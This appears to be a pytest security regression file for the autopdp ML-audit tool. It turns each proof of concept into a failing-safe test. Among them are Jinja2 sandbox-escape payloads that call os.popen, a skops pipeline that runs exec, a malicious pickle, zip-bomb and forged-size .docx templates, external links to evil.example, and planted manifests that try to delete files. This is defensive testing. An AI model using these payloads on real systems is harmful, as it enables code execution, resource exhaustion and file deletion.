"""Issue 34: safe in a pipeline that holds credentials.  Each proof of concept of the security review is a
test here that now fails safe: no input selects code, types are trusted by name, nothing is deleted that
autopdp did not write, the record carries no raw rows unless asked, and limits are checked before work.

Sections: templates; loading, manifest, redaction and the ICE sidecar; limits; the gate and the record.
"""
import functools
import importlib
import io
import json
import pickle
import re
import warnings
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import joblib
import numpy as np
import pandas as pd
import pytest
import skops.io as sio
from sklearn.ensemble import GradientBoostingClassifier, HistGradientBoostingClassifier, RandomForestClassifier
from sklearn.linear_model import LinearRegression, LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer
from sklearn.tree import DecisionTreeClassifier

import autopdp.io.loading as loading_module
from autopdp import Audit, AuditConfig, GatePolicy, read_results
from autopdp import audit
from autopdp import gate
from autopdp.utils.atomic import OUTPUT_NAMES, output_set, sha256_file
from autopdp.cli.commands import build_parser, main
from autopdp.errors import InputError
from autopdp.io.loading import DEFAULT_TRUSTED_TYPES, TrustWarning, load_model
from autopdp.pd.data import as_frame
from autopdp.io.provenance import command_line, redact
from autopdp.trust.ood import SupportModel
from cli_inputs import write_small_cli_inputs  # noqa: E402


# ----------------------------------------------------------------------------------------------------
# Templates: no data file selects a template, every template renders sandboxed, the .docx template is
# size-checked and loses its external links, names from the data never break gate.xml or the Word document
# ----------------------------------------------------------------------------------------------------

docx = pytest.importorskip("docx")

SMALL = "grid_resolution = 6\ngrid_resolution_2d = 4\ntop_k = 1\nnoise_draws = 50\nmax_noise_draws = 100\n"


def _poc_template(folder: Path, marker: Path, expression=None, names=("report.html.j2", "report.pdf.j2")) -> Path:
    """A template folder whose templates try to run ``touch MARKER`` (the issue's PoC), line 3."""
    folder.mkdir(parents=True, exist_ok=True)
    expression = expression or f"cycler.__init__.__globals__.os.popen('touch {marker}').read()"
    for name in names:
        (folder / name).write_text(
            '{% extends "autopdp/' + name + '" %}\n'
            "{% block cover %}\n"
            "{{ " + expression + " }}{{ super() }}{% endblock %}\n")
    return folder


@pytest.fixture(scope="module")
def template_files(tmp_path_factory):
    d = tmp_path_factory.mktemp("sec-templates")
    write_small_cli_inputs(d, SMALL)
    return d


@pytest.fixture(scope="module")
def small():
    rng = np.random.default_rng(5)
    X = pd.DataFrame({"a": rng.normal(size=200), "b": rng.uniform(0, 5, 200)})
    y = (X.a + 0.4 * X.b + rng.normal(size=200) > 1).astype(int)
    cfg = AuditConfig(grid_resolution=6, grid_resolution_2d=4, top_k=1, noise_draws=50, max_noise_draws=100)
    return audit(LogisticRegression().fit(X, y), X, y, config=cfg)


def _report(template_files, out, *extra, formats="json,html", config=None):
    return ["report", "--model", str(template_files / "model.skops"), "--data", str(template_files / "data.csv"), "--target", "target",
            "--out", str(out), "--formats", formats, "--config", str(config or template_files / "small.toml"), *extra]


def _no_work(monkeypatch):
    def forbidden(*args, **kwargs):
        raise AssertionError("work started before the input was refused")

    monkeypatch.setattr(loading_module, "load_model", forbidden)


# ------------------------------------------------------------------ no data file selects a template
@pytest.mark.parametrize("key, flag", [("template_dir", "--template-dir"), ("docx_template", "--docx-template")])
def test_config_file_cannot_choose_a_template(template_files, tmp_path, capsys, monkeypatch, key, flag):
    marker = tmp_path / "MARKER"
    tpl = _poc_template(tmp_path / "tpl", marker)
    cfg = tmp_path / "cfg.toml"
    cfg.write_text(SMALL + f'{key} = "{tpl if key == "template_dir" else template_files / "data.csv"}"\n')
    _no_work(monkeypatch)
    assert main(_report(template_files, tmp_path / "out", config=cfg, formats="json,html,docx")) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and f"config key '{key}'" in err and flag in err
    assert not marker.exists() and not (tmp_path / "out").exists()
    # and in Python: the config is refused, naming the argument to use
    with pytest.raises(InputError, match=rf"config key '{key}'.*Python: (template_dir|template)="):
        AuditConfig.from_dict({key: str(tpl)})


@pytest.mark.parametrize("key", ["template_dir", "docx_template"])
def test_policy_audit_table_cannot_choose_a_template(template_files, tmp_path, capsys, monkeypatch, key):
    """The issue's PoC: `autopdp gate --policy policy.toml` ran the template's shell command and exited 0."""
    marker = tmp_path / "MARKER"
    tpl = _poc_template(tmp_path / "tpl", marker)
    policy = tmp_path / "policy.toml"
    policy.write_text(f'[features.a]\nmonotonic = "increasing"\n\n[audit]\n{key} = "{tpl}"\n')
    _no_work(monkeypatch)
    code = main(["gate", "--policy", str(policy), "--model", str(template_files / "model.skops"), "--data",
                 str(template_files / "data.csv"), "--target", "target", "--out", str(tmp_path / "out"), "--formats",
                 "json,html,docx", "--config", str(template_files / "small.toml")])
    err = capsys.readouterr().err.strip()
    assert code == 2 and f"policy key 'audit.{key}'" in err and len(err.splitlines()) == 1
    assert not marker.exists() and not (tmp_path / "out").exists()


def test_results_json_config_block_chooses_nothing(small, tmp_path):
    """A results.json whose config names a code-running template folder and, as docx_template, another local
    file: it loads (older records carry the keys), and neither is used by to_html / to_docx."""
    marker = tmp_path / "MARKER"
    tpl = _poc_template(tmp_path / "tpl", marker)
    secret = tmp_path / "secret.docx"
    d = docx.Document()
    d.add_paragraph("SECRET-TOKEN-4711")
    d.save(str(secret))
    record = json.loads(small.to_json())
    record["config"]["template_dir"] = str(tpl)
    record["config"]["docx_template"] = str(secret)
    path = tmp_path / "results.json"
    path.write_text(json.dumps(record))
    loaded = Audit.from_json(path)
    assert "template_dir" not in loaded.config.to_dict() and "docx_template" not in loaded.config.to_dict()
    html = loaded.to_html()
    assert not marker.exists() and "Executive summary" in html
    word = docx.Document(io.BytesIO(loaded.to_docx()))
    assert "SECRET-TOKEN-4711" not in "\n".join(p.text for p in word.paragraphs)
    assert "SECRET-TOKEN-4711" not in json.dumps(json.loads(loaded.to_json()))
    assert not marker.exists()


# ------------------------------------------------------------------ every template sandboxed
def test_builtin_templates_render_in_the_sandbox(small):
    from jinja2.sandbox import SandboxedEnvironment

    from autopdp.report.render import environment, render_pdf, render_pdf_html
    from autopdp.report.writer import report_context

    assert isinstance(environment(), SandboxedEnvironment) and environment().autoescape("report.html.j2")
    assert "Executive summary" in small.to_html()
    pdf = render_pdf(render_pdf_html(report_context(small, formats=("pdf",))))
    assert pdf[:5] == b"%PDF-"


@pytest.mark.parametrize("expression", [
    "cycler.__init__.__globals__.os.popen('touch {m}').read()",
    "''.__class__.__mro__[1].__subclasses__()",
    "self._TemplateReference__context",
    "lipsum.__globals__['os'].popen('touch {m}').read()",
    "joiner.__init__.__globals__.__builtins__['__import__']('os').system('touch {m}')",
    "'{0.__init__.__globals__}'.format(cycler)",
])
def test_template_reaching_for_python_internals_is_refused(small, tmp_path, expression, monkeypatch):
    """Refused twice over: the folder's check before any work (a name starting with '_' in the template's code),
    and, for what the check cannot see (a format string), the sandbox when the template renders."""
    import autopdp.report.render as render

    marker = tmp_path / "MARKER"
    expression = expression.replace("{m}", str(marker))
    html = _poc_template(tmp_path / "html", marker, expression, names=("report.html.j2",))
    pdf = _poc_template(tmp_path / "pdf", marker, expression, names=("report.pdf.j2",))
    internals = r", line 3 reaches for Python internals"
    with pytest.raises(InputError, match=r"template 'report.html.j2' in --template-dir .*" + internals):
        small.to_html(template_dir=html)
    with pytest.raises(InputError, match=r"template 'report.pdf.j2' in --template-dir .*" + internals):
        small.to_pdf(template_dir=pdf)
    # the sandbox alone (the check before the work switched off) refuses them as well
    monkeypatch.setattr(render, "_precheck_templates", lambda *a: None)
    with pytest.raises(InputError, match=r"template 'report.html.j2' in --template-dir .*" + internals
                                         + r", which the sandbox refuses \(access to attribute"):
        small.to_html(template_dir=html)
    assert not marker.exists()


@pytest.mark.parametrize("expression, message", [
    ("'x' * 10**10", "a repetition to 10,000,000,000 items is over the limit"),
    ("[0] * 10**9", "a repetition to 1,000,000,000 items is over the limit"),
    ("7 ** 100000", "has over 4096 bits"),
    ("2.0 ** 100000", "OverflowError"),
])
def test_template_cannot_allocate_without_bound(small, tmp_path, expression, message):
    tpl = _poc_template(tmp_path / "tpl", tmp_path / "MARKER", expression)
    with pytest.raises(InputError, match=r"template 'report.html.j2' in --template-dir .*, line 3 .*"
                                         + re.escape(message)):
        small.to_html(template_dir=tpl)


def test_cli_template_poc_is_exit_2_naming_template_and_line(template_files, tmp_path, capsys, monkeypatch):
    """The issue's PoC through the command line: no MARKER, exit 2 before any work, one line naming the template
    and line."""
    marker = tmp_path / "MARKER"
    tpl = _poc_template(tmp_path / "tpl", marker)
    _no_work(monkeypatch)
    assert main(_report(template_files, tmp_path / "out", "--template-dir", str(tpl))) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "template 'report.html.j2'" in err and "line 3" in err
    assert "Python internals" in err and not marker.exists() and not (tmp_path / "out").exists()


def test_cli_template_syntax_error_is_exit_2_before_any_work(template_files, tmp_path, capsys, monkeypatch):
    tpl = tmp_path / "tpl"
    tpl.mkdir()
    (tpl / "report.css").write_text("body { color: red; }\n{% if %}\n")
    _no_work(monkeypatch)
    assert main(_report(template_files, tmp_path / "out", "--template-dir", str(tpl))) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "template 'report.css'" in err and "line 2" in err


def test_word_report_methodology_renders_sandboxed(small, monkeypatch):
    """The Word report's methodology comes from the built-in template, through the same sandboxed environment."""
    from jinja2.sandbox import SandboxedEnvironment

    import autopdp.report.render as render

    seen = []
    real = render.environment

    def spy(*args, **kwargs):
        env = real(*args, **kwargs)
        seen.append(env)
        return env

    monkeypatch.setattr(render, "environment", spy)
    word = docx.Document(io.BytesIO(small.to_docx()))
    assert seen and all(isinstance(e, SandboxedEnvironment) for e in seen)
    assert "Methodology and caveats" in [p.text for p in word.paragraphs]


# ------------------------------------------------------------------ the .docx template: size, external links
def test_docx_template_with_a_300_mb_part_is_refused_before_inflating(template_files, tmp_path, capsys, monkeypatch):
    """The issue's PoC: a few hundred KB .docx with a 300 MB part.  Refused from the zip's directory (no part
    is opened), exit 2 naming the part and the limit, before any work."""
    bomb = tmp_path / "bomb.docx"
    base = io.BytesIO()
    docx.Document().save(base)
    chunk = b"\0" * (1 << 20)
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        with dst.open("word/media/huge.bin", "w") as part:
            for _ in range(300):
                part.write(chunk)
    assert bomb.stat().st_size < 1024 * 1024
    opened = []
    real_open = zipfile.ZipFile.open
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda self, name, *a, **k: (
        opened.append(getattr(name, "filename", name)), real_open(self, name, *a, **k))[1])
    _no_work(monkeypatch)
    assert main(_report(template_files, tmp_path / "out", "--docx-template", str(bomb), formats="json,docx")) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "bomb.docx" in err and "word/media/huge.bin" in err
    assert "300.0 MB" in err and "64 MB limit" in err
    assert "word/media/huge.bin" not in opened


def _png() -> bytes:
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    png = io.BytesIO()
    fig = plt.figure(figsize=(0.2, 0.2))
    fig.savefig(png, format="png")
    plt.close(fig)
    return png.getvalue()


def test_docx_template_whose_directory_understates_a_part_is_never_inflated(tmp_path):
    """A zip directory may lie: the template's picture declared at its PNG's size (with the PNG's CRC) while its
    stream inflates to 300 MB passes the size check; the template is then read in bounded steps, so the parser
    sees the PNG and nothing inflates the rest (before, python-docx's read inflated all 300 MB at once)."""
    import struct
    import tracemalloc
    import zlib

    from autopdp.report import word_package as word

    png = _png()
    base = io.BytesIO()
    d = docx.Document()
    d.add_picture(io.BytesIO(png))
    d.save(base)
    liar = tmp_path / "liar.docx"
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(liar, "w", zipfile.ZIP_DEFLATED) as dst:
        media = [n for n in src.namelist() if n.startswith("word/media/")]
        assert len(media) == 1
        for info in src.infolist():
            if info.filename not in media:
                dst.writestr(info.filename, src.read(info.filename))
        with dst.open(media[0], "w") as part:
            part.write(png)
            for _ in range(300):
                part.write(b"\0" * (1 << 20))
    raw = bytearray(liar.read_bytes())
    name = media[0].encode()
    for sig, crc_at, size_at, name_at in ((b"PK\x03\x04", 14, 22, 30), (b"PK\x01\x02", 16, 24, 46)):
        at = raw.find(sig)
        while at >= 0:
            if raw[at + name_at:at + name_at + len(name)] == name:
                struct.pack_into("<I", raw, at + crc_at, zlib.crc32(png))
                struct.pack_into("<I", raw, at + size_at, len(png))
            at = raw.find(sig, at + 4)
    liar.write_bytes(bytes(raw))
    with zipfile.ZipFile(liar) as z:
        assert z.getinfo(media[0]).file_size == len(png)
    word.check_docx_template(liar)  # the directory is within the limits
    tracemalloc.start()
    try:
        document = word._open(liar)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert document.inline_shapes[0].type is not None  # the picture is there, at its declared size
    assert peak < 64 * 1024 * 1024, f"{peak / 2**20:.0f} MB"


def _template_with_external_links(path: Path) -> Path:
    """A .docx with the external relationships of the issue: an http attachedTemplate (settings.xml.rels),
    a linked picture (r:link), a hyperlink and an INCLUDEPICTURE field of the template's own content."""
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import OxmlElement, parse_xml
    from docx.oxml.ns import nsdecls, qn

    d = docx.Document()
    d.add_paragraph("ACME template preface")
    # a hyperlink to a server
    p = d.add_paragraph()
    rid = d.part.relate_to("http://evil.example/hyperlink", RT.HYPERLINK, is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), rid)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "ACME intranet"
    run.append(text)
    link.append(run)
    p._p.append(link)
    # a picture linked (not embedded) from a server
    d.add_picture(io.BytesIO(_png()))
    linked = d.part.relate_to("http://evil.example/pixel.png", RT.IMAGE, is_external=True)
    blip = d.element.body.xpath(".//a:blip")[-1]
    blip.set(qn("r:link"), linked)
    # a field that fetches when Word updates fields
    d.add_paragraph()._p.append(parse_xml(
        f'<w:fldSimple {nsdecls("w")} w:instr=\' INCLUDEPICTURE "http://evil.example/field.png" \\d \'>'
        '<w:r><w:t>pic</w:t></w:r></w:fldSimple>'))
    # an attachedTemplate on a server (Word fetches it on open)
    settings = d.part._settings_part
    tid = settings.relate_to("http://evil.example/template.dotm", RT.HYPERLINK.replace("hyperlink", "attachedTemplate"),
                             is_external=True)
    attached = OxmlElement("w:attachedTemplate")
    attached.set(qn("r:id"), tid)
    settings.element.append(attached)
    d.save(str(path))
    with zipfile.ZipFile(path) as z:  # the template as built does hold all of them
        rels = "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".rels"))
    assert rels.count('TargetMode="External"') == 3
    return path


def test_external_relationships_are_stripped_from_the_report(small, tmp_path):
    template = _template_with_external_links(tmp_path / "org.docx")
    data = small.to_docx(template=template)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        everything = {n: z.read(n).decode("utf-8", "replace") for n in z.namelist()}
    rels = "".join(v for n, v in everything.items() if n.endswith(".rels"))
    assert "External" not in rels and "evil.example" not in rels
    assert not any("evil.example" in v for v in everything.values())
    assert "attachedTemplate" not in everything["word/settings.xml"]
    assert "r:link" not in everything["word/document.xml"] and "INCLUDEPICTURE" not in everything["word/document.xml"]
    word = docx.Document(io.BytesIO(data))  # still a document, with the template's own text
    texts = [p.text for p in word.paragraphs]
    assert "ACME template preface" in texts and "ACME intranet" in texts and "Executive summary" in texts


# ------------------------------------------------------------------ names from the data in XML and Word
@pytest.fixture(scope="module")
def control_names(tmp_path_factory):
    d = tmp_path_factory.mktemp("control-names")
    rng = np.random.default_rng(2)
    X = pd.DataFrame({"in\x01come": rng.normal(size=200), "a\x0bge": rng.uniform(0, 5, 200)})
    y = (X["in\x01come"] + 0.4 * X["a\x0bge"] + rng.normal(size=200) > 1).astype(int)
    X.assign(target=y).to_csv(d / "data.csv", index=False)
    sio.dump(LogisticRegression().fit(X, y), d / "model.skops")
    (d / "small.toml").write_text(SMALL)
    (d / "policy.toml").write_text('[features."in\\u0001come"]\nmonotonic = "decreasing"\n')
    return d


def test_control_characters_in_names_keep_gate_xml_parsable(control_names, tmp_path):
    d, out = control_names, tmp_path / "gate"
    code = main(["gate", "--policy", str(d / "policy.toml"), "--model", str(d / "model.skops"), "--data",
                 str(d / "data.csv"), "--target", "target", "--out", str(out), "--formats", "json",
                 "--config", str(d / "small.toml")])
    gate = json.loads((out / "gate.json").read_text())
    assert code == 1 and gate["passed"] is False  # income increases the score: the 'decreasing' rule fails
    root = ET.parse(out / "gate.xml").getroot()  # parses
    features = [p.get("value") for p in root.iter("property") if p.get("name") == "feature"]
    assert "in\\x01come" in features
    failure = next(root.iter("failure"))
    assert "in\\x01come" in failure.text and "\x01" not in failure.text


def test_control_characters_in_names_keep_the_word_report_writable(control_names, tmp_path):
    d, out = control_names, tmp_path / "report"
    assert main(["report", "--model", str(d / "model.skops"), "--data", str(d / "data.csv"), "--target", "target",
                 "--out", str(out), "--formats", "json,docx", "--config", str(d / "small.toml")]) == 0
    word = docx.Document(str(out / "report.docx"))
    text = "\n".join([p.text for p in word.paragraphs]
                     + [c.text for t in word.tables for r in t.rows for c in r.cells])
    assert "in\\x01come" in text and "a\\x0bge" in text
    assert "\x01" not in text and "\x0b" not in text


def test_xml_text_escapes_only_what_xml_forbids():
    from autopdp.utils.xmltext import xml_text

    assert xml_text("a\x01b\x0bc\td\ne\rf") == "a\\x01b\\x0bc\td\ne\rf"
    assert xml_text("\ufffe\ud800é😀") == "\\ufffe\\ud800é😀"
    ET.fromstring(f"<a b='{xml_text(chr(0) + chr(31))}'>{xml_text(''.join(map(chr, range(32))))}</a>")


def test_control_characters_in_names_keep_the_pdf_figures(control_names):
    """The PDF's figures are SVG images WeasyPrint parses as XML: a control character in a name dropped them."""
    import base64

    from autopdp.report.render import render_pdf_html, svg_figures_as_images
    from autopdp.report.writer import report_context

    X = pd.read_csv(control_names / "data.csv")
    y = X.pop("target")
    cfg = AuditConfig(grid_resolution=6, grid_resolution_2d=4, top_k=1, noise_draws=50, max_noise_draws=100)
    html = render_pdf_html(report_context(audit(LogisticRegression().fit(X, y), X, y, config=cfg), formats=("pdf",)))
    assert "in\x01come" in html  # the figures carry the name as it is
    images = re.findall(r'src="data:image/svg\+xml;base64,([^"]+)"', svg_figures_as_images(html))
    assert images
    for data in images:
        ET.fromstring(base64.b64decode(data))  # each parses as XML


# ----------------------------------------------------------------------------------------------------
# What is loaded, deleted, recorded and read: trust by type name, pickles per file, the manifest as a hint,
# credentials redacted, the ICE sidecar only beside results.json
# ----------------------------------------------------------------------------------------------------

TREE = "sklearn.tree._tree.Tree"
FAST = 'grid_resolution = 6\npairs = false\nmodel_name = "m"\n'


def run(capsys, *args):
    code = main([str(a) for a in args])
    out = capsys.readouterr()
    return code, out.out, out.err


def _frame(n=200, seed=0):
    rng = np.random.default_rng(seed)
    X = pd.DataFrame({"a": rng.normal(size=n), "b": rng.uniform(0, 5, n), "c": rng.integers(0, 4, n).astype(float)})
    y = (X.a + 0.3 * X.b + rng.normal(size=n) > 1).astype(int)
    return X, y


@pytest.fixture(scope="module")
def loading_files(tmp_path_factory):
    d = tmp_path_factory.mktemp("sec")
    X, y = _frame()
    X.assign(target=y).to_csv(d / "data.csv", index=False)
    sio.dump(LogisticRegression().fit(X, y), d / "model.skops")
    joblib.dump(LogisticRegression().fit(X, y), d / "model.joblib")
    sio.dump(DecisionTreeClassifier(max_depth=3).fit(X, y), d / "tree.skops")
    (d / "config.toml").write_text(FAST)
    (d / "policy.toml").write_text('[features.a]\nmonotonic = "increasing"\n')
    return d


def _exec_pipeline(marker):
    """The issue's PoC: a pipeline whose first step is ``functools.partial(exec, code)``: transforming runs the code."""
    code = f"__import__('pathlib').Path({str(marker)!r}).touch()"
    return make_pipeline(FunctionTransformer(functools.partial(exec, code, {})), DecisionTreeClassifier(max_depth=2))


# ------------------------------------------------------------------------------------------- trust by name
@pytest.mark.parametrize("model", [
    DecisionTreeClassifier(max_depth=3), RandomForestClassifier(n_estimators=3, max_depth=3),
    GradientBoostingClassifier(n_estimators=3), HistGradientBoostingClassifier(max_iter=3),
], ids=lambda m: type(m).__name__)
def test_scikit_learns_tree_models_load_with_the_documented_default(tmp_path, model):
    X, y = _frame()
    sio.dump(model.fit(X, y), tmp_path / "m.skops")
    untrusted = set(sio.get_untrusted_types(file=tmp_path / "m.skops"))
    assert untrusted and untrusted <= set(DEFAULT_TRUSTED_TYPES)  # skops flags them; the default covers them
    with warnings.catch_warnings():
        warnings.simplefilter("error", TrustWarning)  # nothing trusted by name: nothing said
        loaded = load_model(tmp_path / "m.skops")
    assert np.array_equal(loaded.predict(X), model.predict(X))


def test_hgb_with_categorical_features_needs_its_extra_types_named(tmp_path):
    X, y = _frame()
    sio.dump(HistGradientBoostingClassifier(max_iter=3, categorical_features=[2]).fit(X, y), tmp_path / "m.skops")
    with pytest.raises(InputError) as refused:
        load_model(tmp_path / "m.skops")
    assert "functools.partial, sklearn.utils.validation.check_array" in str(refused.value)
    assert "--trust-type functools.partial --trust-type sklearn.utils.validation.check_array" in str(refused.value)
    with pytest.warns(TrustWarning, match="trusting functools.partial, sklearn.utils.validation.check_array by name"):
        load_model(tmp_path / "m.skops", trusted_types=["functools.partial", "sklearn.utils.validation.check_array"])


def test_a_skops_pipeline_holding_exec_is_refused_by_default_and_with_the_tree_types_named(loading_files, tmp_path, capsys):
    marker = tmp_path / "MARKER"
    X, y = _frame()
    pipe = _exec_pipeline(marker)
    pipe.steps[1][1].fit(X, y)
    sio.dump(pipe, tmp_path / "evil.skops")
    assert not marker.exists()
    for extra in ([], ["--trust-type", TREE, "--trust-type", DEFAULT_TRUSTED_TYPES[1]], ["--trust-type", "builtins.exec"]):
        code, _, err = run(capsys, "report", "--model", tmp_path / "evil.skops", "--data", loading_files / "data.csv",
                           "--target", "target", "--out", tmp_path / "out", "--config", loading_files / "config.toml",
                           "--formats", "json", *extra)
        assert code == 2, err
        line = err.strip()
        assert "\n" not in line and "Traceback" not in err
        named = {"builtins.exec"} if "builtins.exec" in extra else set()
        listed = re.search(r"types skops does not trust: (.*?)\. Loading", line).group(1).split(", ")
        assert set(listed) == {"builtins.exec", "functools.partial"} - named
        assert "--trust-type functools.partial" in line
        assert not marker.exists() and not (tmp_path / "out" / "results.json").exists()


def test_the_exec_pipeline_loads_only_when_its_exact_types_are_named_and_says_so(tmp_path):
    """The PoC is live: once both types are named it loads (with a warning naming them) and transforming runs it."""
    marker = tmp_path / "MARKER"
    X, y = _frame()
    pipe = _exec_pipeline(marker)
    pipe.steps[1][1].fit(X, y)
    sio.dump(pipe, tmp_path / "evil.skops")
    with pytest.raises(InputError, match="does not trust: functools.partial"):
        load_model(tmp_path / "evil.skops", trusted_types=["builtins.exec", TREE])
    with pytest.warns(TrustWarning, match=r"'evil.skops' loaded trusting builtins.exec, functools.partial by name"):
        loaded = load_model(tmp_path / "evil.skops", trusted_types=["builtins.exec", "functools.partial"])
    assert not marker.exists()
    loaded.steps[0][1].transform(X)
    assert marker.exists()


@pytest.mark.parametrize("bad", ["exec", "a b.c", "", 3])
def test_trusted_types_must_be_full_type_names(loading_files, bad):
    with pytest.raises(InputError, match="full type name like 'sklearn.tree._tree.Tree'"):
        load_model(loading_files / "tree.skops", trusted_types=[bad])


def _evil_pickle(path, marker):
    class Evil:
        def __reduce__(self):
            return (open, (str(marker), "w"))

    path.write_bytes(pickle.dumps(Evil()))


def test_trust_model_is_gone_and_says_what_replaces_it(loading_files, tmp_path, capsys):
    marker = tmp_path / "MARKER"
    _evil_pickle(tmp_path / "evil.pkl", marker)
    code, _, err = run(capsys, "report", "--model", tmp_path / "evil.pkl", "--trust-model", "--data",
                       loading_files / "data.csv", "--target", "target", "--out", tmp_path / "out")
    assert code == 2 and not marker.exists()
    assert "--trust-model (API: trust_model=) was removed" in err and "--trust-type TYPE" in err
    assert "--allow-pickle PATH" in err and len(err.strip().splitlines()) == 1
    assert not (tmp_path / "out").exists()
    with pytest.raises(InputError, match="was removed"):
        load_model(tmp_path / "evil.pkl", trust_model=True)
    assert not marker.exists()
    assert "--trust-model" not in build_parser().format_help()


def test_allow_pickle_is_per_file_a_champion_pickle_is_not_implied(loading_files, tmp_path, capsys):
    """The issue's PoC: allowing the model's pickle (or trusting types) does not run a --champion pickle."""
    marker = tmp_path / "MARKER"
    _evil_pickle(tmp_path / "champion.pkl", marker)
    code, _, err = run(capsys, "gate", "--policy", loading_files / "policy.toml", "--model", loading_files / "model.joblib",
                       "--allow-pickle", loading_files / "model.joblib", "--trust-type", "builtins.open",
                       "--champion", tmp_path / "champion.pkl", "--data", loading_files / "data.csv", "--target", "target",
                       "--out", tmp_path / "out", "--config", loading_files / "config.toml", "--formats", "json")
    assert code == 2 and not marker.exists()
    assert f"'{tmp_path / 'champion.pkl'}' is a pickle" in err and f"--allow-pickle {tmp_path / 'champion.pkl'}" in err
    # a comparison model too
    code, _, err = run(capsys, "report", "--model", loading_files / "model.joblib", "--allow-pickle", loading_files / "model.joblib",
                       "--compare", f"old={tmp_path / 'champion.pkl'}", "--data", loading_files / "data.csv",
                       "--target", "target", "--out", tmp_path / "out", "--config", loading_files / "config.toml")
    assert code == 2 and not marker.exists() and "is a pickle" in err
    # and a candidate of `autopdp compare`
    code, _, err = run(capsys, "compare", "--model", f"new={loading_files / 'model.joblib'}", "--model",
                       f"old={tmp_path / 'champion.pkl'}", "--allow-pickle", loading_files / "model.joblib", "--data",
                       loading_files / "data.csv", "--target", "target", "--out", tmp_path / "out", "--config", loading_files / "config.toml")
    assert code == 2 and not marker.exists() and "is a pickle" in err
    # and a .skops model's --trust-type never lets a pickle in
    code, _, err = run(capsys, "report", "--model", tmp_path / "champion.pkl", "--trust-type", "builtins.open",
                       "--data", loading_files / "data.csv", "--target", "target", "--out", tmp_path / "out")
    assert code == 2 and not marker.exists()


def test_allow_pickle_must_name_a_model_file_of_the_run(loading_files, tmp_path, capsys):
    code, _, err = run(capsys, "report", "--model", loading_files / "model.joblib", "--allow-pickle", loading_files / "modell.joblib",
                       "--data", loading_files / "data.csv", "--target", "target", "--out", tmp_path / "out")
    assert code == 2 and "--allow-pickle" in err and "names none of this run's model files" in err


def test_allowed_pickle_loads_for_that_file_and_is_said(loading_files, tmp_path, capsys):
    code, _, err = run(capsys, "report", "--model", loading_files / "model.joblib", "--allow-pickle", loading_files / "model.joblib",
                       "--data", loading_files / "data.csv", "--target", "target", "--out", tmp_path / "out",
                       "--config", loading_files / "config.toml", "--formats", "json")
    assert code == 0, err
    assert "'model.joblib' is a pickle, loaded because --allow-pickle named it" in err


# ------------------------------------------------------------------------------------------- the manifest
def _planted(out, **loading_files):
    (out / "manifest.json").write_text(json.dumps({"schema": "autopdp.Manifest/1", "files": loading_files}))


def test_a_planted_manifest_deletes_nothing_autopdp_did_not_write(loading_files, tmp_path, capsys):
    """The issue's PoC: a manifest in --out listing precious.txt and Makefile: after a run both are still there."""
    out = tmp_path / "out"
    out.mkdir()
    victims = {"precious.txt": b"keep me", "Makefile": b"all:\n", "report.docx": b"my own report", "gate.xml": b"<x/>"}
    for name, data in victims.items():
        (out / name).write_bytes(data)
    (tmp_path / "x").write_bytes(b"outside")
    wrong = "0" * 64
    _planted(out, **{"precious.txt": sha256_file(out / "precious.txt"), "Makefile": sha256_file(out / "Makefile"),
                     "../x": sha256_file(tmp_path / "x"), "report.docx": wrong, "gate.xml": "not a hash",
                     str(tmp_path / "x"): sha256_file(tmp_path / "x")})
    code, _, err = run(capsys, "report", "--model", loading_files / "model.skops", "--data", loading_files / "data.csv",
                       "--target", "target", "--out", out, "--config", loading_files / "config.toml", "--formats", "json")
    assert code == 0, err
    for name, data in victims.items():
        assert (out / name).read_bytes() == data, name
    assert (tmp_path / "x").read_bytes() == b"outside"
    assert set(json.loads((out / "manifest.json").read_text())["files"]) == {"results.json"}


def test_an_earlier_runs_output_is_removed_only_while_unchanged(tmp_path):
    out = tmp_path / "out"
    with output_set(out) as s:
        s.write_text("results.json", "{}")
        s.write_bytes("report.docx", b"docx v1")
        s.write_bytes("report.html", b"<p>v1</p>")
        s.commit()
    (out / "report.html").write_bytes(b"<p>edited by the validator</p>")
    with output_set(out) as s:
        s.write_text("results.json", '{"v": 2}')
        s.commit()
    assert not (out / "report.docx").exists()  # autopdp's own, unchanged: the new set does not have it
    assert (out / "report.html").read_bytes() == b"<p>edited by the validator</p>"  # changed since: kept
    assert (out / "results.json").read_text() == '{"v": 2}'


def test_a_planted_manifest_with_the_right_hash_of_a_foreign_name_removes_nothing(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.md").write_text("mine")
    (out / ".autopdp-keep").write_text("mine")
    _planted(out, **{"notes.md": sha256_file(out / "notes.md"), ".autopdp-keep": sha256_file(out / ".autopdp-keep"),
                     "manifest.json": "1" * 64})
    assert "notes.md" not in OUTPUT_NAMES
    with output_set(out) as s:
        s.write_text("results.json", "{}")
        s.commit()
    assert (out / "notes.md").read_text() == "mine" and (out / ".autopdp-keep").read_text() == "mine"


# ------------------------------------------------------------------------------------------- secrets
@pytest.mark.parametrize("arg,shown,hidden", [
    ("tls://user:token@127.0.0.1:1", "tls://user:***@127.0.0.1:1", "token"),
    ("https://ghp_abcdef@github.com/org/repo", "https://***@github.com/org/repo", "ghp_abcdef"),
    ("s3://bucket/x.csv?X-Amz-Signature=abc123&region=eu", "?X-Amz-Signature=***&region=eu", "abc123"),
    ("https://h/api?access_token=zz9&password=pw1", "?access_token=***&password=***", "zz9"),
    ("tcp://scheduler:8786", "tcp://scheduler:8786", None),
    ("/data/a@b.csv", "/data/a@b.csv", None),
])
